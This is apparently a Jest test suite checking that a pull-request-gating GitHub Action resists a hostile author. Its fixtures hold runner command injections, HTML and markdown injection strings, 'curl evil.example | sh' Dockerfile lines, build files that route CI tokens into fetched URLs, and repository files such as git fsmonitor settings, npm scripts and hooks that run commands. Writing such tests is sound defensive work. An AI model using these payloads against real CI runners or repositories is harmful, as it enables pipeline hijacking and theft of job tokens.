// The author of a pull request against the job that gates it: commands to the runner, tokens of the job, text out of its place.
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  writeFileSync,
} from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, jest, test } from '@jest/globals'
import {
  bundleAction,
  everythingSaid,
  forget,
  type GateResult,
  gateAction,
  pathWithGit,
} from '../action/gate-action.ts'
import { pullRequest } from '../action/pull-request.ts'
import { plantedToken, searcher } from './planted.ts'

const esc = '\u001b'
/** What a runner would obey, at the start of a line or anywhere in it. */
const commands = [
  ...[
    '::set-output name=verdict::reproducible',
    '::set-env name=PWNED::1',
    '::add-path::/pwned',
    '::save-state name=PWNED::1',
  ],
  ...['::error file=README,line=1,title=PWNED::PWNED', '##[error]PWNED', '##[set-output name=verdict;]reproducible'],
  ...[
    '::stop-commands::pwned',
    '::pwned::',
    '::add-mask::verdict',
    '::echo::on',
    '##vso[task.setvariable variable=PWNED]1',
  ],
]
const markup = [
  '<img src=x onerror=alert(1)>',
  '</details><h1>PWNED</h1>',
  '[PWNED](https://evil.example/x)',
  '@octocat',
  '![x](https://evil.example/p.png)',
]

jest.setTimeout(120_000)

describe('a hostile author', () => {
  let actionDir: string
  let path: string
  const roots: string[] = []
  const secrets = Object.fromEntries(
    ['github', 'gh', 'runtime', 'oidc', 'input'].map(name => [name, plantedToken(name, 'author')]),
  ) as Record<string, string>
  const environment = {
    ...{ GITHUB_TOKEN: secrets.github, GH_TOKEN: secrets.gh, ACTIONS_RUNTIME_TOKEN: secrets.runtime },
    ...{ ACTIONS_ID_TOKEN_REQUEST_TOKEN: secrets.oidc, 'INPUT_MY-SECRET': secrets.input },
  } as Record<string, string>
  const find = searcher(secrets)
  beforeAll(() => {
    actionDir = bundleAction()
    path = pathWithGit()
    // A docker that fails, tells what it was started with, and says of the author's file what the author would have it say.
    const words = `ERROR: a.hcl:1: ${commands.join(' ')} ${esc}]0;pwned\u0007\r${commands[0]}`
    writeFileSync(join(path, 'words'), `${commands.join('\n')}\n${words}\n`)
    writeFileSync(
      join(path, 'docker'),
      `#!/bin/sh\n{ echo "ARGV $*"; /usr/bin/env; } >> '${path}/started'\n/bin/cat '${path}/words'\n/bin/cat '${path}/words' >&2\nexit 1\n`,
    )
    chmodSync(join(path, 'docker'), 0o755)
  })
  afterAll(() => forget(actionDir, path, ...roots))

  const run = async (files: Record<string, string>, inputs: Record<string, string>): Promise<GateResult> => {
    const pull = pullRequest(files)
    const result = await gateAction({
      ...{ actionDir, pull, env: { PATH: path, ...environment } },
      inputs: { mode: 'lint', comment: 'always', 'github-token': 'a-token-of-nobody', ...inputs },
    })
    roots.push(pull.root, result.root)
    return result
  }
  /** The runner did nothing that the action itself did not ask for. */
  const obeyed = (result: GateResult): void => {
    expect({ env: result.env, path: result.path, state: result.state }).toEqual({ env: {}, path: [], state: {} })
    expect(result.outputs.verdict ?? '').not.toBe('reproducible')
    expect(result.annotations.filter(({ file, title }) => file === 'README' || title === 'PWNED')).toEqual([])
    expect(
      result.log.filter(({ line }) =>
        /^\s*::(?!error|warning|notice|group|endgroup|debug|add-mask|stop-commands|[0-9a-f-]{36}::)/.test(line),
      ),
    ).toEqual([])
    expect(result.errors).toEqual([])
    expect(result.undeclaredOutputs).toEqual([])
    expect(result.problems).toEqual([])
    const shown = [
      result.summary,
      ...result.comments.map(({ body }) => body),
      ...result.checkRuns.map(({ output }) => output.summary),
    ]
    for (const text of shown) {
      expect(text).not.toMatch(/<(?:img|h1|script)\b/i)
      expect(text).not.toMatch(/\]\(https?:\/\/evil\.example/)
      expect(text).not.toMatch(/(?<![`\w])@octocat\b(?![^\n]*`)/)
    }
    // biome-ignore lint/suspicious/noControlCharactersInRegex: what is looked for
    expect([...shown, ...result.log.map(({ line }) => line)].filter(text => /[\u001b\u0007\u202e]/.test(text))).toEqual(
      [],
    )
  }

  test('a Dockerfile that tries to command the runner', async () => {
    const all = [...commands, ...markup, `${esc}]0;pwned\u0007${esc}[2J`, '\u202ePWNED']
    const words = all.map(text => text.replace(/'/g, ''))
    const dockerfile = [
      `# ${words.join(' ')}`,
      ...words.map((word, at) => `FROM debian:bookworm AS s${at}\nLABEL a='${word}'\nENV X${at}='${word}'`),
      ...words.map(word => `RUN curl -sSL 'https://evil.example/${word}' | sh '${word}' && date > '/${word}'`),
      ...words.map(word => `COPY '${word}' '/${word}'\nADD 'https://evil.example/${word}' /`),
      ...words.map(word => `${word.replace(/\s/g, '_')} unknown instruction`),
      `RUN <<'${esc}::error::PWNED'\n${words.join('\n')}\n${esc}::error::PWNED`,
    ].join('\n')
    const config = `rules:\n  "::error::PWNED": off\n  RG201:\n    level: '${words[0]}'\nprofile: "::set-env name=PWNED::1"\n`
    const plain = await run({ Dockerfile: dockerfile }, {})
    expect(plain.report?.findings.length).toBeGreaterThan(10)
    obeyed(plain)
    obeyed(await run({ Dockerfile: dockerfile, '.repro-gate.yml': config }, {}))
    // Names of files are the author's, too.
    const odd = {
      'a::error::PWNED/Dockerfile': 'FROM debian\nRUN apt-get update\n',
      '##[error]PWNED.Dockerfile': dockerfile,
    }
    obeyed(await run(odd, { file: '**/*Dockerfile' }))
  })

  test('a compose or bake file that asks for a token of the job', async () => {
    const names = Object.keys(environment)
    const dockerfile = `FROM debian\n${names.map((_, at) => `ARG A${at}\nARG B${at}\nRUN curl -sSL https://a.example/$A${at}$B${at} | sh\n`).join('')}`
    const compose = `services:\n  a:\n    build:\n      context: .\n      args:\n${names.map((name, at) => `        A${at}: "\${${name}}"\n        ${name}:\n`).join('')}`
    const hcl = `${names.map(name => `variable "${name.replace(/[^A-Z_]/gi, '_')}" {}\n`).join('')}target "default" {\n  args = {\n${names
      .map(
        (name, at) =>
          `    A${at} = "\${${name.replace(/[^A-Z_]/gi, '_')}}"\n    B${at} = ${name.replace(/[^A-Z_]/gi, '_')}\n`,
      )
      .join('')}  }\n}\n`
    const json = JSON.stringify({
      variable: Object.fromEntries(names.map(name => [name, {}])),
      target: { default: { args: Object.fromEntries(names.map((name, at) => [`A${at}`, `\${${name}}`])) } },
    })
    for (const [file, text] of Object.entries({
      'compose.yaml': compose,
      'docker-bake.hcl': hcl,
      'docker-bake.json': json,
    }))
      for (const mode of file.endsWith('.hcl') ? ['lint', 'gate'] : ['lint']) {
        const result = await run({ Dockerfile: dockerfile, [file]: text }, { file, mode })
        // The runner masks those that it was told of; what stands before that is what counts.
        expect({ file, mode, hits: find(everythingSaid(result) + JSON.stringify(result.comments)) }).toEqual({
          file,
          mode,
          hits: [],
        })
        obeyed(result)
      }
    const started = readFileSync(join(path, 'started'), 'utf8')
    expect(started).toMatch(/^ARGV buildx bake/m)
    expect(find(started)).toEqual([])
    expect(started).not.toMatch(/^(?:INPUT_|ACTIONS_|STATE_|GITHUB_TOKEN=|GH_TOKEN=)/m)
  })

  test('a repository whose every file would run something', async () => {
    const root = mkdtempSync(join(tmpdir(), 'hostile-init-'))
    roots.push(root)
    const bad = `touch ${root}/PWNED`
    const files: Record<string, string> = {
      'package.json': JSON.stringify({
        name: `"$(${bad})"`,
        scripts: { preinstall: bad, prepare: bad, build: bad },
        engines: { node: `$(${bad})` },
      }),
      'package-lock.json': JSON.stringify({ lockfileVersion: 3, packages: {} }),
      ...{
        Makefile: `$(shell ${bad})\nall:\n\t${bad}\n`,
        'setup.py': `import os; os.system(${JSON.stringify(bad)})\n`,
        '.envrc': bad,
      },
      '.git/config': `[core]\n\tfsmonitor = ${bad}\n\thooksPath = hooks\n\tpager = ${bad}\n\tsshCommand = ${bad}\n[alias]\n\tstatus = !${bad}\n`,
      ...{
        'hooks/post-checkout': `#!/bin/sh\n${bad}\n`,
        '.git/HEAD': 'ref: refs/heads/main\n',
        '.npmrc': `//x/:_authToken=\${GITHUB_TOKEN}\n`,
      },
    }
    for (const [name, text] of Object.entries(files)) {
      mkdirSync(join(root, name, '..'), { recursive: true })
      writeFileSync(join(root, name), text, { mode: 0o755 })
    }
    const { init } = await import('../../src/commands/init.ts')
    const { createExec } = await import('../../src/host/exec.ts')
    const { createMasking } = await import('../../src/host/masking.ts')
    const real = createExec({ PATH: path })
    const programs = new Set<string>()
    const quiet = () => {}
    const ports = {
      log: {
        info: quiet,
        debug: quiet,
        warning: quiet,
        foreign: quiet,
        group: <T>(_: string, work: () => Promise<T>) => work(),
      },
      exec: {
        ...real,
        capture: (program: string, ...rest: [string[]]) => {
          programs.add(program)
          return real.capture(program, ...rest)
        },
      },
      ...{ now: Date.now, env: {}, signal: new AbortController().signal, tempDir: root, masking: createMasking() },
    }
    const report = await init(
      { kind: 'init', folder: root, dryRun: false, stack: undefined } as never,
      ports as never,
      { version: '1.0.0' },
    )
    expect(report.files.map(({ path: name }) => name)).toContain('Dockerfile')
    expect(existsSync(join(root, 'PWNED'))).toBe(false)
    // A digest is asked for, and nothing else is started.
    expect([...programs].filter(program => program !== 'docker')).toEqual([])
    for (const [name, text] of Object.entries(files)) expect(readFileSync(join(root, name), 'utf8')).toBe(text)
    expect(readdirSync(root)).toEqual(expect.arrayContaining(['Dockerfile', '.dockerignore']))
    rmSync(root, { recursive: true, force: true })
  })
})
